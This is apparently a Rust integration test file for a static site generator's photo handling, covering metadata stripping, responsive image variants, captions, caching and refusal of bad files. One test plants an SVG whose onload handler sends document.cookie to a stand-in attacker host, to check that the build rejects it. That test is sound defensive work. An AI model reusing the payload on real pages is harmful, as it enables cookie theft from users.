//! The photo desk in a build: photos published as resized variants without their metadata,
//! with `srcset`, sizes and captions in the page and the feed; bad photos refused at their file.

mod common;

use common::{Fixture, photo_site};
use gensite::messages::Lang;
use gensite::photo::samples::SECRET;

const PAGE: &str = "articles/atelier-photo/index.html";
const BASE: &str = "https://example.org/industrie/";

/// Every file of the output, as bytes.
fn output_bytes(site: &Fixture) -> Vec<(String, Vec<u8>)> {
    site.files()
        .into_iter()
        .map(|rel| {
            let bytes = std::fs::read(site.public().join(&rel)).unwrap();
            (rel, bytes)
        })
        .collect()
}

#[test]
fn photos_are_published_as_variants_without_their_metadata() {
    let site = photo_site();
    site.build_ok();
    let files = output_bytes(&site);
    for (rel, bytes) in &files {
        let text = String::from_utf8_lossy(bytes);
        for leak in [SECRET, "Exif\0", "xmpmeta", "GPS"] {
            assert!(!text.contains(leak), "{leak:?} published in {rel}");
        }
    }
    let size = |rel: &str| {
        let (_, bytes) = files
            .iter()
            .find(|(r, _)| r == rel)
            .unwrap_or_else(|| panic!("{rel} is not published"));
        let image = image::load_from_memory(bytes).unwrap();
        (image.width(), image.height())
    };
    // The lead photo, upright: 960×640 capped at the widest setting (640).
    assert_eq!(size("articles/atelier-photo/une.jpg"), (640, 427));
    assert_eq!(size("articles/atelier-photo/une.webp"), (640, 427));
    assert_eq!(size("articles/atelier-photo/une-160.jpg"), (160, 107));
    assert_eq!(size("articles/atelier-photo/une-320.webp"), (320, 213));
    // Narrower than the widest setting: kept at its own width, never enlarged.
    assert_eq!(size("articles/atelier-photo/presse.jpg"), (400, 300));
    assert_eq!(size("articles/atelier-photo/presse-320.jpg"), (320, 240));
    assert!(!site.exists("articles/atelier-photo/presse-640.jpg"));
    // The transparent map stays a PNG.
    assert_eq!(size("articles/atelier-photo/carte.png"), (150, 100));
    assert_eq!(size("articles/atelier-photo/carte.webp"), (150, 100));
    assert!(!site.exists("articles/atelier-photo/une-original.jpg"));
    // The lead photo's crop for sharing: the middle at 1.91:1, 1200 pixels wide at most.
    assert_eq!(size("articles/atelier-photo/une-partage.jpg"), (960, 503));
    assert!(
        !site.exists("articles/atelier-photo/presse-partage.jpg"),
        "body photos get none"
    );
}

#[test]
fn sharing_and_structured_data_get_the_crop_with_its_size() {
    let site = photo_site();
    site.build_ok();
    let page = site.read(PAGE);
    let crop = format!("{BASE}articles/atelier-photo/une-partage.jpg");
    assert!(
        page.contains(&format!("<meta property=\"og:image\" content=\"{crop}\">")),
        "{page}"
    );
    assert!(
        page.contains("<meta property=\"og:image:width\" content=\"960\">"),
        "{page}"
    );
    assert!(
        page.contains("<meta property=\"og:image:height\" content=\"503\">"),
        "{page}"
    );
    assert!(page.contains(&format!("<meta name=\"twitter:image\" content=\"{crop}\">")));
    let json = page
        .split("<script type=\"application/ld+json\">")
        .nth(1)
        .and_then(|rest| rest.split("</script>").next())
        .unwrap();
    let ld: serde_json::Value = serde_json::from_str(json).unwrap();
    assert_eq!(
        ld["image"][0],
        serde_json::json!({"@type": "ImageObject", "url": crop, "width": 960, "height": 503})
    );
}

#[test]
fn the_page_shows_the_lead_photo_first_and_body_photos_as_captioned_figures() {
    let site = photo_site();
    site.build_ok();
    let page = site.read(PAGE);
    let lead = page
        .find("<figure class=\"illustration\">")
        .expect("the lead photo");
    let body = page.find("<div class=\"corps\">").unwrap();
    assert!(lead < body, "the lead photo comes before the text");
    if let Some(toc) = page.find("id=\"sommaire\"") {
        assert!(lead < toc, "and before the table of contents");
    }
    assert!(
        page.contains(&format!(
            "<img src=\"{BASE}articles/atelier-photo/une.jpg\" srcset=\"{BASE}articles/atelier-photo/une-160.jpg 160w, {BASE}articles/atelier-photo/une-320.jpg 320w, {BASE}articles/atelier-photo/une.jpg 640w\""
        )),
        "{page}"
    );
    assert!(page.contains("width=\"640\" height=\"427\""), "{page}");
    assert!(page.contains(&format!(
        "<source type=\"image/webp\" srcset=\"{BASE}articles/atelier-photo/une-160.webp 160w"
    )));
    // French typography in the caption (a narrow no-break space before the colon).
    assert!(
        page.contains("<figcaption>L’atelier de Saint-Nazaire\u{a0}: 300 salariés <span class=\"credit\">Photo\u{a0}: DR</span></figcaption>")
            || page.contains("<figcaption>L’atelier de Saint-Nazaire\u{202f}: 300 salariés <span class=\"credit\">Photo\u{202f}: DR</span></figcaption>"),
        "{page}"
    );
    // The body photo with a title: a figure with its caption and credit, loaded lazily.
    let figure = page
        .split("<figure class=\"photo\">")
        .nth(1)
        .and_then(|rest| rest.split("</figure>").next())
        .expect("a body figure");
    assert!(
        figure.contains("alt=\"La presse de 800 tonnes\""),
        "{figure}"
    );
    assert!(figure.contains("loading=\"lazy\""), "{figure}");
    assert!(figure.contains("width=\"400\" height=\"300\""), "{figure}");
    assert!(
        figure.contains("<figcaption>La presse de 800 tonnes <span class=\"credit\">Photo"),
        "{figure}"
    );
    assert!(
        !page.contains("<p><figure"),
        "a figure never sits in a paragraph"
    );
    // An image inside a sentence stays inline, as a picture.
    assert!(page.contains("Une carte <picture>"), "{page}");
    assert!(page.contains(&format!("src=\"{BASE}articles/atelier-photo/carte.png\"")));
    // Feeds carry the same absolute addresses.
    let feed = site.read("atom.xml");
    assert!(
        feed.contains(&format!("{BASE}articles/atelier-photo/presse.jpg")),
        "{feed}"
    );
    assert!(!feed.contains("src=\"presse.jpg\""), "{feed}");
}

#[test]
fn a_second_build_uses_the_cache_and_writes_the_same_bytes() {
    let site = photo_site();
    site.build_ok();
    let first = output_bytes(&site);
    let cache = site.root().join(".gen-cache/photos");
    let entries = std::fs::read_dir(&cache).unwrap().count();
    assert!(
        entries > 0,
        "the processed photos are kept in {}",
        cache.display()
    );
    site.build_ok();
    assert_eq!(output_bytes(&site), first);
    // A damaged cache file is not trusted: the build makes it again, same bytes.
    for entry in std::fs::read_dir(&cache).unwrap() {
        let path = entry.unwrap().path();
        if path.extension().is_some_and(|e| e == "webp") {
            std::fs::write(&path, b"abime").unwrap();
        }
    }
    site.build_ok();
    assert_eq!(output_bytes(&site), first);
}

#[test]
fn a_damaged_or_disguised_photo_stops_the_build_at_its_file() {
    for (name, bytes, expected) in [
        (
            "presse.jpg",
            b"pas une image".to_vec(),
            "not an image gen can read",
        ),
        (
            "presse.jpg",
            gensite::photo::samples::png_with_text(20, 20),
            "holds a PNG image",
        ),
    ] {
        let site = photo_site();
        site.build_ok();
        let before = output_bytes(&site);
        std::fs::write(
            site.root()
                .join("content/articles/atelier-photo")
                .join(name),
            bytes,
        )
        .unwrap();
        let err = site.build().expect_err("refused").render(Lang::En);
        assert!(
            err.contains(&format!("content/articles/atelier-photo/{name}: error: "))
                && err.contains(expected),
            "{err}"
        );
        assert_eq!(output_bytes(&site), before, "the old site is left whole");
    }
    // A truncated photo.
    let site = photo_site();
    let whole = std::fs::read(
        site.root()
            .join("content/articles/atelier-photo/presse.jpg"),
    )
    .unwrap();
    std::fs::write(
        site.root()
            .join("content/articles/atelier-photo/presse.jpg"),
        &whole[..whole.len() / 3],
    )
    .unwrap();
    let err = site.build().expect_err("refused").render(Lang::En);
    assert!(
        err.contains("presse.jpg") && err.contains("truncated or damaged"),
        "{err}"
    );
}

#[test]
fn an_svg_with_a_script_is_refused_and_an_inert_one_published_as_it_is() {
    let site = photo_site();
    site.build_ok();
    assert!(site.exists("articles/usine-du-futur/usine.svg"));
    site.write(
        "content/articles/atelier-photo/schema.svg",
        "<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"fetch('https://evil.example/'+document.cookie)\"></svg>",
    );
    let err = site.build().expect_err("refused").render(Lang::En);
    assert!(
        err.contains("content/articles/atelier-photo/schema.svg: error: this SVG file cannot be published as it is: it holds an event handler"),
        "{err}"
    );
}

#[test]
fn cards_on_the_home_and_term_pages_show_a_thumbnail() {
    let site = photo_site();
    site.build_ok();
    for list in ["index.html", "tags/industrie-du-futur/index.html"] {
        let html = site.read(list);
        let card = html
            .split("<article class=\"carte\">")
            .find(|c| c.contains("atelier-photo/\">"))
            .unwrap_or_else(|| panic!("no card for the photo article in {list}"));
        assert!(
            card.contains(&format!(
                "<img src=\"{BASE}articles/atelier-photo/une.jpg\" srcset=\"{BASE}articles/atelier-photo/une-160.jpg 160w"
            )) && card.contains("sizes=\"8rem\"") && card.contains("loading=\"lazy\""),
            "{list}: {card}"
        );
    }
}

#[test]
fn a_body_image_whose_file_is_missing_is_a_warning_at_its_line_and_an_error_for_check() {
    let site = photo_site();
    let index = "content/articles/atelier-photo/index.md";
    let text = site.read_source(index);
    site.write(
        index,
        &format!("{text}\nEt encore : ![Une photo égarée](absente.jpg)\n"),
    );
    let lines = text.lines().count() + 2;
    // The build warns (the page still leads somewhere) and `gen check` refuses.
    let report = site.build_ok();
    let warned: Vec<String> = report.warnings.iter().map(|w| w.render(Lang::En)).collect();
    assert!(
        warned.iter().any(|w| w.contains(&format!(
            "{index}:{lines}:13: warning: image \"absente.jpg\" not found"
        ))),
        "{warned:?}"
    );
    let out = site.run(&["check"]);
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(!out.status.success(), "{err}");
    assert!(
        err.contains(&format!(
            "{index}:{lines}:13: error: image \"absente.jpg\" not found"
        )),
        "{err}"
    );
}

#[test]
fn a_preview_edit_of_one_photo_processes_that_photo_only() {
    let site = photo_site();
    let out = tempfile::tempdir().unwrap();
    let mut session = gensite::session::Session::new(&site.options(), out.path()).unwrap();
    session.rebuild(&[]).unwrap_or_else(|e| panic!("{e}"));
    let cache = site.root().join(".gen-cache/photos");
    let before: std::collections::BTreeSet<String> = std::fs::read_dir(&cache)
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .collect();
    // The body photo is replaced by a wider one.
    let rel = "content/articles/atelier-photo/presse.jpg";
    std::fs::write(
        site.root().join(rel),
        gensite::photo::samples::jpeg_with_metadata(500, 250, 1),
    )
    .unwrap();
    let rebuilt = session
        .rebuild(&[std::path::PathBuf::from(rel)])
        .unwrap_or_else(|e| panic!("{e}"));
    let after: std::collections::BTreeSet<String> = std::fs::read_dir(&cache)
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .collect();
    let made: Vec<&String> = after.difference(&before).collect();
    // One new entry: its record and its variants (160, 320 and 500 wide, twice).
    assert_eq!(made.len(), 7, "{made:?}");
    let key = made[0].split(['-', '.']).next().unwrap();
    assert!(made.iter().all(|m| m.starts_with(key)), "{made:?}");
    assert!(
        rebuilt
            .written
            .iter()
            .any(|w| w == "articles/atelier-photo/presse.jpg"),
        "{:?}",
        rebuilt.written
    );
    assert!(
        !rebuilt.written.iter().any(|w| w.contains("/une")),
        "the other photos are not copied again: {:?}",
        rebuilt.written
    );
    let page = std::fs::read_to_string(out.path().join(PAGE)).unwrap();
    assert!(page.contains("width=\"500\" height=\"250\""), "{page}");
    // And the preview is what a clean build gives.
    let clean = tempfile::tempdir().unwrap();
    let mut options = site.options();
    options.output = Some(clean.path().join("public"));
    gensite::build(&options).unwrap_or_else(|e| panic!("{e}"));
    let clean = clean.path().join("public");
    let files = common::files(&clean);
    assert_eq!(common::files(out.path()), files);
    for file in &files {
        assert_eq!(
            std::fs::read(out.path().join(file)).unwrap(),
            std::fs::read(clean.join(file)).unwrap(),
            "{file}"
        );
    }
}

#[test]
fn pole_and_author_pages_publish_the_photos_of_their_folder() {
    let site = photo_site();
    std::fs::create_dir_all(site.root().join("content/poles/images-reseaux")).unwrap();
    std::fs::write(
        site.root().join("content/poles/images-reseaux/siege.jpg"),
        gensite::photo::samples::jpeg_with_metadata(500, 300, 1),
    )
    .unwrap();
    let pole = site.read_source("content/poles/images-reseaux.md");
    site.write(
        "content/poles/images-reseaux.md",
        &format!("{pole}\n![Le siège du pôle à Rennes](siege.jpg \"Le siège — Photo : DR\")\n"),
    );
    std::fs::create_dir_all(site.root().join("content/auteurs/fabien-piliu")).unwrap();
    std::fs::write(
        site.root()
            .join("content/auteurs/fabien-piliu/portrait.png"),
        gensite::photo::samples::png_with_text(120, 160),
    )
    .unwrap();
    let author = site.read_source("content/auteurs/fabien-piliu.md");
    site.write(
        "content/auteurs/fabien-piliu.md",
        &format!("{author}\n![Portrait de Fabien Piliu](portrait.png)\n"),
    );
    site.build_ok();
    for (rel, bytes) in output_bytes(&site) {
        assert!(!String::from_utf8_lossy(&bytes).contains(SECRET), "{rel}");
    }
    assert!(site.exists("poles/images-reseaux/siege.jpg"));
    assert!(site.exists("poles/images-reseaux/siege-320.webp"));
    assert!(site.exists("auteurs/fabien-piliu/portrait.png"));
    let page = site.read("poles/images-reseaux/index.html");
    assert!(
        page.contains(&format!(
            "<img src=\"{BASE}poles/images-reseaux/siege.jpg\" srcset=\"{BASE}poles/images-reseaux/siege-160.jpg 160w"
        )),
        "{page}"
    );
    assert!(
        page.contains("<figcaption>Le siège <span class=\"credit\">Photo"),
        "{page}"
    );
    let page = site.read("auteurs/fabien-piliu/index.html");
    assert!(
        page.contains(&format!("src=\"{BASE}auteurs/fabien-piliu/portrait.png\"")),
        "{page}"
    );
    // A file beside a page that does not exist is still refused.
    std::fs::create_dir_all(site.root().join("content/poles/inconnu")).unwrap();
    std::fs::write(site.root().join("content/poles/inconnu/x.jpg"), b"x").unwrap();
    let err = site.build().expect_err("refused").render(Lang::En);
    assert!(
        err.contains("content/poles/inconnu/x.jpg: error: this file is not next to"),
        "{err}"
    );
}
